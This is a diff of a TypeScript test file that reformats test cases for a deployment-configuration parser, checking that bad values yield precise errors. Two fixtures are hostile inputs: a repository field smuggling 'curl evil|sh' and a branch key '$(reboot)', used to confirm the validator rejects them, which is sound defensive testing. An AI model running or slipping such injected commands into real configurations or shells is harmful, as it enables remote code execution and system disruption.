@@ -81,7 +81,12 @@ services:
     targetGroups: [api-a, api-b]
 `);
     const api = serviceConfig(cfg, "api");
-    expect(api.timeouts).toEqual({ builderReadySeconds: 900, installSeconds: 1800, imageTestSeconds: 900, imageAvailableSeconds: 3600 });
+    expect(api.timeouts).toEqual({
+      builderReadySeconds: 900,
+      installSeconds: 1800,
+      imageTestSeconds: 900,
+      imageAvailableSeconds: 3600,
+    });
     expect(api.image).toEqual({ retain: 5, encrypted: true });
     expect(api.approval).toEqual({ required: false, timeoutMinutes: 1440 });
     expect(cfg.janitor.afterHours).toBe(24);
@@ -90,20 +95,107 @@ services:
 
 describe("configuration errors name the path, the expectation and what was found", () => {
   it.each([
-    ["a wrong type", edit("      - { weight: 50, bakeSeconds: 120 }", "      - { weight: fifty, bakeSeconds: 120 }"), "services.web.canary[1].weight", /expected a number/, /"fifty"/],
-    ["non-increasing canary weights", edit("      - { weight: 50, bakeSeconds: 120 }", "      - { weight: 5, bakeSeconds: 120 }"), "services.web.canary[1].weight", /above the previous step's 10/, /number 5/],
-    ["a canary that never reaches 100", edit("      - { weight: 100, bakeSeconds: 0 }", "      - { weight: 90, bakeSeconds: 0 }"), "services.web.canary[2].weight", /reach weight 100/, /number 90/],
-    ["a missing field", edit("      instanceType: t3.small\n", ""), "services.web.builder.instanceType", /expected text/, /missing/],
-    ["an unknown key (typo)", edit("      retain: 5", "      retian: 5"), "services.web.image.retian", /unknown: retian/, /retian/],
-    ["a bad enum", edit("architecture: x86_64", "architecture: sparc"), "services.web.architecture", /"x86_64", "arm64"/, /"sparc"/],
-    ["a hostile repository", edit("repository: example/web", "repository: \"example/web; curl evil|sh\""), "services.web.repository", /owner\/name/, /curl evil/],
-    ["a hostile branch key", edit("      stage: staging", "      \"$(reboot)\": staging"), 'services.web.branches["$(reboot)"]', /branch name/, /\$\(reboot\)/],
-    ["a bad base AMI", edit("      ssmParameter: /aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64", "      imageId: ami-nothex"), "services.web.baseAmi.imageId", /AMI id/, /ami-nothex/],
-    ["an ambiguous base AMI", edit("      ssmParameter: /aws", "      imageId: ami-0123456789abcdef0\n      ssmParameter: /aws"), "services.web.baseAmi", /one of \{ssmParameter/, /a map with keys (imageId, ssmParameter|ssmParameter, imageId)/],
-    ["a reserved tag key", edit("      team: web", "      \"kiln:role\": web"), 'services.web.tags["kiln:role"]', /reserved/, /kiln:role/],
-    ["an empty script", edit("      imageTest: |\n        set -euo pipefail\n        sample-app image-test\n", "      imageTest: \"  \"\n"), "services.web.scripts.imageTest", /non-empty shell script/, /the text ""/],
-    ["a KMS key without encryption", edit("      encrypted: true", "      encrypted: false\n      kmsKeyId: alias/x"), "services.web.image.kmsKeyId", /no kmsKeyId/, /alias\/x/],
-    ["the same target group twice", edit("targetGroups: [kiln-web-a, kiln-web-b]", "targetGroups: [kiln-web-a, kiln-web-a]"), "services.web.targetGroups", /two different/, /list of 2/],
+    [
+      "a wrong type",
+      edit("      - { weight: 50, bakeSeconds: 120 }", "      - { weight: fifty, bakeSeconds: 120 }"),
+      "services.web.canary[1].weight",
+      /expected a number/,
+      /"fifty"/,
+    ],
+    [
+      "non-increasing canary weights",
+      edit("      - { weight: 50, bakeSeconds: 120 }", "      - { weight: 5, bakeSeconds: 120 }"),
+      "services.web.canary[1].weight",
+      /above the previous step's 10/,
+      /number 5/,
+    ],
+    [
+      "a canary that never reaches 100",
+      edit("      - { weight: 100, bakeSeconds: 0 }", "      - { weight: 90, bakeSeconds: 0 }"),
+      "services.web.canary[2].weight",
+      /reach weight 100/,
+      /number 90/,
+    ],
+    [
+      "a missing field",
+      edit("      instanceType: t3.small\n", ""),
+      "services.web.builder.instanceType",
+      /expected text/,
+      /missing/,
+    ],
+    [
+      "an unknown key (typo)",
+      edit("      retain: 5", "      retian: 5"),
+      "services.web.image.retian",
+      /unknown: retian/,
+      /retian/,
+    ],
+    [
+      "a bad enum",
+      edit("architecture: x86_64", "architecture: sparc"),
+      "services.web.architecture",
+      /"x86_64", "arm64"/,
+      /"sparc"/,
+    ],
+    [
+      "a hostile repository",
+      edit("repository: example/web", 'repository: "example/web; curl evil|sh"'),
+      "services.web.repository",
+      /owner\/name/,
+      /curl evil/,
+    ],
+    [
+      "a hostile branch key",
+      edit("      stage: staging", '      "$(reboot)": staging'),
+      'services.web.branches["$(reboot)"]',
+      /branch name/,
+      /\$\(reboot\)/,
+    ],
+    [
+      "a bad base AMI",
+      edit(
+        "      ssmParameter: /aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64",
+        "      imageId: ami-nothex",
+      ),
+      "services.web.baseAmi.imageId",
+      /AMI id/,
+      /ami-nothex/,
+    ],
+    [
+      "an ambiguous base AMI",
+      edit("      ssmParameter: /aws", "      imageId: ami-0123456789abcdef0\n      ssmParameter: /aws"),
+      "services.web.baseAmi",
+      /one of \{ssmParameter/,
+      /a map with keys (imageId, ssmParameter|ssmParameter, imageId)/,
+    ],
+    [
+      "a reserved tag key",
+      edit("      team: web", '      "kiln:role": web'),
+      'services.web.tags["kiln:role"]',
+      /reserved/,
+      /kiln:role/,
+    ],
+    [
+      "an empty script",
+      edit("      imageTest: |\n        set -euo pipefail\n        sample-app image-test\n", '      imageTest: "  "\n'),
+      "services.web.scripts.imageTest",
+      /non-empty shell script/,
+      /the text ""/,
+    ],
+    [
+      "a KMS key without encryption",
+      edit("      encrypted: true", "      encrypted: false\n      kmsKeyId: alias/x"),
+      "services.web.image.kmsKeyId",
+      /no kmsKeyId/,
+      /alias\/x/,
+    ],
+    [
+      "the same target group twice",
+      edit("targetGroups: [kiln-web-a, kiln-web-b]", "targetGroups: [kiln-web-a, kiln-web-a]"),
+      "services.web.targetGroups",
+      /two different/,
+      /list of 2/,
+    ],
     ["a bad service name", edit("  web:\n", "  Web_1:\n"), "services.Web_1", /service name/, /Web_1/],
     ["the wrong version", edit("version: 1", "version: 2"), "version", /version: 1/, /number 2/],
   ])("%s", (_what, text, path, expected, found) => {
@@ -119,7 +211,9 @@ describe("configuration errors name the path, the expectation and what was found
     const text = edit("      - { weight: 50, bakeSeconds: 120 }", "      - { weight: fifty, bakeSeconds: 120 }");
     const line = text.split("\n").findIndex((l) => l.includes("fifty")) + 1;
     expect(() => parseConfig(text, "conf/kiln.yaml")).toThrow(
-      new RegExp(`conf/kiln.yaml:${line}:\\d+ services\\.web\\.canary\\[1\\]\\.weight: expected a number; found the text "fifty"`),
+      new RegExp(
+        `conf/kiln.yaml:${line}:\\d+ services\\.web\\.canary\\[1\\]\\.weight: expected a number; found the text "fifty"`,
+      ),
     );
   });
 
